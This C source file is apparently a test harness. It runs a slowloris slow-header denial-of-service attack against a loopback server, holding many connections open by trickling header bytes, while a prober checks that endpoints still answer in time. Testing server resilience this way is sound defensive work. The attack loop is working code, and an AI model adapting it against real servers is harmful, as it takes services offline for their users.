/* slowloris: a slow-header attack and a prober in one program, to check that a server stays
 * answerable while one address holds as many connections as it can.
 *
 * The attacker opens --connections TCP connections from --attacker-address, sends a request
 * line and a Host header, then one more header byte every --interval on each, and reconnects
 * any connection the server closes (after --reconnect-delay). Meanwhile the prober, from
 * --prober-address, sends each probe request every --probe-every on a new connection and
 * requires the expected status within --probe-timeout. It stops after --duration.
 *
 * Exit status: 0 when every probe was answered in time with an expected status and the attack
 * ran (its connections were opened); 1 otherwise; 2 for a usage error; 77 (skip) when the
 * RLIMIT_NOFILE hard limit is too low for the connections asked for.
 *
 * Only for servers on this machine: the target must be a loopback address. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_PROBES 8
#define MAX_HEADERS 8
#define MAX_EXPECT 4

typedef struct probe {
    const char *method, *path, *content_type;
    char *body;
    size_t body_len;
    bool body_lines;  /* --body-lines: each request sends the next line of body */
    size_t next_line; /* where the next line starts (the prober is one thread) */
    const char *headers[MAX_HEADERS];
    size_t n_headers;
    char *header_file; /* "Name: value" lines, read from --header-file */
    int expect[MAX_EXPECT];
    size_t n_expect;
} probe;

typedef struct options {
    struct sockaddr_in target;
    const char *target_text;
    struct in_addr attacker, prober;
    unsigned connections, duration_s, interval_ms, reconnect_ms, probe_every_ms, probe_timeout_ms;
    probe probes[MAX_PROBES];
    size_t n_probes;
} options;

static atomic_bool stopping;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* A non-blocking TCP socket bound to @p src and connecting to @p to; -1 on failure. */
static int open_from(struct in_addr src, const struct sockaddr_in *to)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr = src};
    if (bind(fd, (struct sockaddr *)&a, sizeof a) != 0 ||
        (connect(fd, (const struct sockaddr *)to, sizeof *to) != 0 && errno != EINPROGRESS)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* ---------------------------------------------------------------------------------------- */
/* The attacker                                                                             */

typedef struct slow_conn {
    int fd;        /* -1: waiting to reconnect */
    int64_t next;  /* next byte, or the reconnection */
    bool started;  /* request line and Host sent */
    unsigned sent; /* header bytes sent after them */
} slow_conn;

typedef struct attack_stats {
    unsigned long opened, closed_by_server, bytes, open_now, open_max;
} attack_stats;

static const char preamble[] = "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n";
static const char trickle[] = "X-Slowloris-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

static void attack_open(const options *o, int ep, slow_conn *c, size_t i, attack_stats *st)
{
    c->fd = open_from(o->attacker, &o->target);
    c->started = false;
    c->sent = 0;
    c->next = now_ms() + o->interval_ms; /* the first byte follows the preamble (EPOLLOUT) */
    if (c->fd < 0) {
        c->next = now_ms() + 100; /* out of ports or descriptors: try again soon */
        return;
    }
    struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP | EPOLLOUT, .data.u64 = i};
    epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &ev);
    st->opened++;
}

static void attack_drop(const options *o, slow_conn *c, attack_stats *st)
{
    if (c->fd < 0)
        return;
    close(c->fd);
    c->fd = -1;
    if (c->started && st->open_now)
        st->open_now--;
    c->started = false;
    st->closed_by_server++;
    c->next = now_ms() + o->reconnect_ms;
}

static void attack_send(const options *o, slow_conn *c, attack_stats *st)
{
    if (!c->started) {
        if (send(c->fd, preamble, sizeof preamble - 1, MSG_NOSIGNAL) !=
            (ssize_t)sizeof preamble - 1)
            return; /* not connected yet: EPOLLOUT will say */
        c->started = true;
        if (++st->open_now > st->open_max)
            st->open_max = st->open_now;
    } else {
        char b = trickle[c->sent % (sizeof trickle - 1)];
        if (send(c->fd, &b, 1, MSG_NOSIGNAL) != 1) {
            attack_drop(o, c, st);
            return;
        }
        c->sent++;
        st->bytes++;
    }
    c->next = now_ms() + o->interval_ms;
}

static void *attack_main(void *arg)
{
    const options *o = arg;
    attack_stats *st = calloc(1, sizeof *st);
    slow_conn *conns = calloc(o->connections, sizeof *conns);
    int ep = epoll_create1(EPOLL_CLOEXEC);
    if (!st || !conns || ep < 0) {
        fprintf(stderr, "slowloris: attacker: out of memory or epoll\n");
        exit(1);
    }
    for (size_t i = 0; i < o->connections; i++)
        attack_open(o, ep, &conns[i], i, st);
    struct epoll_event evs[256];
    while (!atomic_load(&stopping)) {
        int n = epoll_wait(ep, evs, 256, 20);
        for (int k = 0; k < n; k++) {
            slow_conn *c = &conns[evs[k].data.u64];
            if (c->fd < 0)
                continue;
            if (evs[k].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
                char buf[4096];
                ssize_t r = recv(c->fd, buf, sizeof buf, MSG_DONTWAIT);
                if (r == 0 || (r < 0 && errno != EAGAIN) ||
                    (evs[k].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))) {
                    attack_drop(o, c, st);
                    continue;
                }
            }
            if ((evs[k].events & EPOLLOUT) && !c->started) {
                attack_send(o, c, st);
                if (c->fd >= 0) { /* from now on only reading matters */
                    struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP,
                                             .data.u64 = evs[k].data.u64};
                    epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
                }
            }
        }
        int64_t t = now_ms();
        for (size_t i = 0; i < o->connections; i++) {
            slow_conn *c = &conns[i];
            if (t < c->next)
                continue;
            if (c->fd < 0)
                attack_open(o, ep, c, i, st);
            else if (c->started)
                attack_send(o, c, st);
        }
    }
    for (size_t i = 0; i < o->connections; i++)
        if (conns[i].fd >= 0)
            close(conns[i].fd);
    close(ep);
    free(conns);
    return st;
}

/* ---------------------------------------------------------------------------------------- */
/* The prober                                                                               */

typedef struct probe_stats {
    unsigned long sent, ok, failed;
    int64_t slowest_ms;
} probe_stats;

/* One request on a new connection. @return the status, 0 on timeout, -1 on a socket error. */
/* The body of the next request: the whole body, or with --body-lines its next line (cycling),
 * so that each probe can be a different grant (e.g. a fresh bootstrap token each time). */
static const char *next_body(probe *p, size_t *len)
{
    if (!p->body || !p->body_lines) {
        *len = p->body_len;
        return p->body;
    }
    if (p->next_line >= p->body_len)
        p->next_line = 0;
    const char *start = p->body + p->next_line;
    size_t n = strcspn(start, "\n");
    p->next_line += n + 1;
    *len = n;
    return start;
}

static int probe_once(const options *o, probe *p, int64_t deadline)
{
    size_t body_len = 0;
    const char *body = next_body(p, &body_len);
    char req[16384];
    int n = snprintf(req, sizeof req, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n",
                     p->method, p->path, o->target_text);
    for (size_t i = 0; i < p->n_headers && n > 0 && (size_t)n < sizeof req; i++)
        n += snprintf(req + n, sizeof req - (size_t)n, "%s\r\n", p->headers[i]);
    if (p->header_file && n > 0 && (size_t)n < sizeof req)
        n += snprintf(req + n, sizeof req - (size_t)n, "%s", p->header_file);
    if (body && n > 0 && (size_t)n < sizeof req)
        n += snprintf(
            req + n, sizeof req - (size_t)n, "Content-Type: %s\r\nContent-Length: %zu\r\n",
            p->content_type ? p->content_type : "application/x-www-form-urlencoded", body_len);
    if (n < 0 || body_len >= sizeof req || (size_t)n >= sizeof req - 2 - body_len)
        return -1;
    size_t head = (size_t)n; /* < sizeof req - 2 - body_len: the blank line and body fit */
    memcpy(req + head, "\r\n", 2);
    head += 2;
    if (body)
        memcpy(req + head, body, body_len);
    size_t len = head + body_len, off = 0;

    int fd = open_from(o->prober, &o->target);
    if (fd < 0)
        return -1;
    char resp[64];
    size_t got = 0;
    int status = 0;
    while (status == 0) {
        int left = (int)(deadline - now_ms());
        if (left <= 0)
            break;
        struct pollfd pf = {fd, (short)(off < len ? POLLOUT : POLLIN), 0};
        if (poll(&pf, 1, left) <= 0)
            break;
        if (off < len) {
            ssize_t w = send(fd, req + off, len - off, MSG_NOSIGNAL);
            if (w < 0 && errno != EAGAIN) {
                status = -1;
                break;
            }
            off += w > 0 ? (size_t)w : 0;
            continue;
        }
        ssize_t r = recv(fd, resp + got, sizeof resp - 1 - got, 0);
        if (r <= 0) {
            status = -1;
            break;
        }
        got += (size_t)r;
        resp[got] = '\0';
        if (got >= 12 && sscanf(resp, "HTTP/1.%*d %d", &status) != 1)
            status = -1;
    }
    close(fd);
    return status;
}

static void *probe_main(void *arg)
{
    options *o = arg;
    probe_stats *st = calloc(1, sizeof *st);
    if (!st)
        exit(1);
    int64_t next = now_ms();
    while (!atomic_load(&stopping)) {
        for (size_t i = 0; i < o->n_probes; i++) {
            probe *p = &o->probes[i];
            int64_t t0 = now_ms();
            int status = probe_once(o, p, t0 + o->probe_timeout_ms);
            int64_t took = now_ms() - t0;
            bool ok = false;
            for (size_t k = 0; k < p->n_expect; k++)
                ok = ok || status == p->expect[k];
            st->sent++;
            st->slowest_ms = took > st->slowest_ms ? took : st->slowest_ms;
            if (ok) {
                st->ok++;
                continue;
            }
            st->failed++;
            if (status == 0)
                printf("slowloris: probe %s %s: no answer within %u ms\n", p->method, p->path,
                       o->probe_timeout_ms);
            else if (status < 0)
                printf("slowloris: probe %s %s: connection failed or closed after %lld ms\n",
                       p->method, p->path, (long long)took);
            else
                printf("slowloris: probe %s %s: status %d after %lld ms, expected %d\n", p->method,
                       p->path, status, (long long)took, p->expect[0]);
            fflush(stdout);
        }
        next += o->probe_every_ms;
        int64_t wait = next - now_ms();
        if (wait > 0) {
            struct timespec ts = {(time_t)(wait / 1000), (long)(wait % 1000) * 1000000L};
            nanosleep(&ts, NULL);
        } else {
            next = now_ms();
        }
    }
    return st;
}

/* ---------------------------------------------------------------------------------------- */
/* Options                                                                                  */

static void usage(FILE *out)
{
    fputs("usage: slowloris --target HOST:PORT [options]\n"
          "  --target HOST:PORT        the server (a loopback IPv4 address)\n"
          "  --connections N           slow connections, default 1000\n"
          "  --duration SECONDS        default 20\n"
          "  --interval MS             one header byte per connection every MS, default 5000\n"
          "  --reconnect-delay MS      before reopening a closed connection, default 0\n"
          "  --attacker-address IP     default 127.0.0.1\n"
          "  --prober-address IP       default 127.0.0.2\n"
          "  --probe-every MS          default 200\n"
          "  --probe-timeout MS        default 1000\n"
          "  --probe METHOD PATH       a probe request (repeatable; default GET /health);\n"
          "                            the options below apply to the last --probe:\n"
          "  --expect CODE[,CODE...]   expected status, default 200\n"
          "  --header 'Name: value'    repeatable\n"
          "  --header-file FILE        header lines from a file (keeps tokens out of argv)\n"
          "  --body TEXT | --body-file FILE\n"
          "  --body-lines FILE         each request sends the next line of FILE (cycling)\n"
          "  --content-type TYPE       default application/x-www-form-urlencoded\n"
          "Exit: 0 every probe answered in time, 1 not, 2 usage, 77 descriptor limit too low.\n",
          out);
}

/* A whole file of at most 1 MiB (a bigger one is refused rather than cut). */
static char *read_file(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    size_t cap = 1u << 20;
    char *buf = malloc(cap + 1);
    size_t n = buf ? fread(buf, 1, cap + 1, f) : 0;
    fclose(f);
    if (!buf || n > cap) {
        free(buf);
        return NULL;
    }
    buf[n] = '\0';
    if (len)
        *len = n;
    return buf;
}

/* Header lines of a file, each ending in CRLF (blank lines dropped). */
static char *header_lines(const char *path)
{
    char *raw = read_file(path, NULL), *out = raw ? malloc(2 * strlen(raw) + 3) : NULL;
    if (!out) {
        free(raw);
        return NULL;
    }
    size_t n = 0;
    for (const char *line = raw; *line;) {
        size_t len = strcspn(line, "\r\n");
        if (len) {
            memcpy(out + n, line, len);
            memcpy(out + n + len, "\r\n", 2);
            n += len + 2;
        }
        line += len;
        line += strspn(line, "\r\n");
    }
    out[n] = '\0';
    free(raw);
    return out;
}

static bool parse_target(const char *s, options *o)
{
    const char *colon = strrchr(s, ':');
    char host[64];
    if (!colon || (size_t)(colon - s) >= sizeof host)
        return false;
    memcpy(host, s, (size_t)(colon - s));
    host[colon - s] = '\0';
    long port = strtol(colon + 1, NULL, 10);
    o->target.sin_family = AF_INET;
    o->target.sin_port = htons((uint16_t)port);
    /* Loopback only: this program must never be pointed at another machine. */
    return port > 0 && port < 65536 && inet_pton(AF_INET, host, &o->target.sin_addr) == 1 &&
           (ntohl(o->target.sin_addr.s_addr) >> 24) == 127;
}

static int parse_options(int argc, char **argv, options *o)
{
    memset(o, 0, sizeof *o);
    o->connections = 1000, o->duration_s = 20, o->interval_ms = 5000;
    o->probe_every_ms = 200, o->probe_timeout_ms = 1000;
    inet_pton(AF_INET, "127.0.0.1", &o->attacker);
    inet_pton(AF_INET, "127.0.0.2", &o->prober);
    probe *p = NULL;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        unsigned *num = strcmp(a, "--connections") == 0       ? &o->connections
                        : strcmp(a, "--duration") == 0        ? &o->duration_s
                        : strcmp(a, "--interval") == 0        ? &o->interval_ms
                        : strcmp(a, "--reconnect-delay") == 0 ? &o->reconnect_ms
                        : strcmp(a, "--probe-every") == 0     ? &o->probe_every_ms
                        : strcmp(a, "--probe-timeout") == 0   ? &o->probe_timeout_ms
                                                              : NULL;
        if (strcmp(a, "--help") == 0) {
            usage(stdout);
            exit(0);
        } else if (!v) {
            break;
        } else if (num) {
            *num = (unsigned)strtoul(v, NULL, 10);
        } else if (strcmp(a, "--target") == 0) {
            o->target_text = v;
            if (!parse_target(v, o))
                return fprintf(stderr, "slowloris: --target: a loopback HOST:PORT\n"), -1;
        } else if (strcmp(a, "--attacker-address") == 0 || strcmp(a, "--prober-address") == 0) {
            if (inet_pton(AF_INET, v, a[2] == 'a' ? &o->attacker : &o->prober) != 1)
                return fprintf(stderr, "slowloris: %s: an IPv4 address\n", a), -1;
        } else if (strcmp(a, "--probe") == 0 && i + 2 < argc) {
            if (o->n_probes == MAX_PROBES)
                return fprintf(stderr, "slowloris: at most %d probes\n", MAX_PROBES), -1;
            p = &o->probes[o->n_probes++];
            p->method = v;
            p->path = argv[i + 2];
            i++; /* and one more below */
        } else if (!p) {
            return fprintf(stderr, "slowloris: %s before any --probe, or unknown\n", a), -1;
        } else if (strcmp(a, "--expect") == 0) {
            for (const char *s = v; *s && p->n_expect < MAX_EXPECT;
                 s += strcspn(s, ","), s += *s == ',')
                p->expect[p->n_expect++] = atoi(s);
        } else if (strcmp(a, "--header") == 0 && p->n_headers < MAX_HEADERS) {
            p->headers[p->n_headers++] = v;
        } else if (strcmp(a, "--header-file") == 0) {
            if (!(p->header_file = header_lines(v)))
                return fprintf(stderr, "slowloris: cannot read %s\n", v), -1;
        } else if (strcmp(a, "--body") == 0) {
            p->body = strdup(v);
            p->body_len = strlen(v);
        } else if (strcmp(a, "--body-file") == 0) {
            if (!(p->body = read_file(v, &p->body_len)))
                return fprintf(stderr, "slowloris: cannot read %s\n", v), -1;
        } else if (strcmp(a, "--body-lines") == 0) {
            if (!(p->body = read_file(v, &p->body_len)) || !p->body_len)
                return fprintf(stderr, "slowloris: cannot read %s, or it is empty\n", v), -1;
            p->body_lines = true;
        } else if (strcmp(a, "--content-type") == 0) {
            p->content_type = v;
        } else {
            return fprintf(stderr, "slowloris: unknown option %s\n", a), -1;
        }
        i++;
    }
    if (!o->target_text || !o->connections || !o->interval_ms || !o->probe_every_ms)
        return fprintf(stderr, "slowloris: --target is required; counts must be positive\n"), -1;
    if (o->n_probes == 0) {
        o->probes[0].method = "GET";
        o->probes[0].path = "/health";
        o->n_probes = 1;
    }
    for (size_t i = 0; i < o->n_probes; i++)
        if (o->probes[i].n_expect == 0)
            o->probes[i].expect[o->probes[i].n_expect++] = 200;
    return 0;
}

int main(int argc, char **argv)
{
    static options o;
    if (parse_options(argc, argv, &o) != 0) {
        usage(stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    /* One descriptor per slow connection, plus the prober's and some slack. */
    struct rlimit rl;
    rlim_t need = (rlim_t)o.connections + 64;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < need) {
        if (rl.rlim_max != RLIM_INFINITY && rl.rlim_max < need) {
            printf("slowloris: skipped: %u connections need %llu descriptors, but the "
                   "RLIMIT_NOFILE hard limit is %llu (raise it, e.g. ulimit -Hn)\n",
                   o.connections, (unsigned long long)need, (unsigned long long)rl.rlim_max);
            return 77;
        }
        rl.rlim_cur = rl.rlim_max;
        if (setrlimit(RLIMIT_NOFILE, &rl) != 0) {
            perror("slowloris: setrlimit");
            return 77;
        }
    }
    pthread_t attacker, prober;
    pthread_create(&attacker, NULL, attack_main, &o);
    /* Let the attack take hold before the first probe. */
    struct timespec settle = {1, 0};
    nanosleep(&settle, NULL);
    pthread_create(&prober, NULL, probe_main, &o);
    struct timespec run = {(time_t)o.duration_s, 0};
    nanosleep(&run, NULL);
    atomic_store(&stopping, true);
    void *ra, *rp;
    pthread_join(prober, &rp);
    pthread_join(attacker, &ra);
    attack_stats *as = ra;
    probe_stats *ps = rp;
    printf("slowloris: attack: %u connections from one address, %lu opened, %lu closed by the "
           "server, at most %lu open at once, %lu slow bytes sent\n",
           o.connections, as->opened, as->closed_by_server, as->open_max, as->bytes);
    printf("slowloris: probes: %lu sent, %lu answered in time as expected, %lu failed, slowest "
           "%lld ms (limit %u ms)\n",
           ps->sent, ps->ok, ps->failed, (long long)ps->slowest_ms, o.probe_timeout_ms);
    bool attack_ran = as->opened >= o.connections;
    if (!attack_ran)
        printf("slowloris: the attack did not run: only %lu connections opened\n", as->opened);
    int rc = ps->failed == 0 && ps->sent > 0 && attack_ran ? 0 : 1;
    for (size_t i = 0; i < o.n_probes; i++) {
        free(o.probes[i].body);
        free(o.probes[i].header_file);
    }
    free(as);
    free(ps);
    return rc;
}
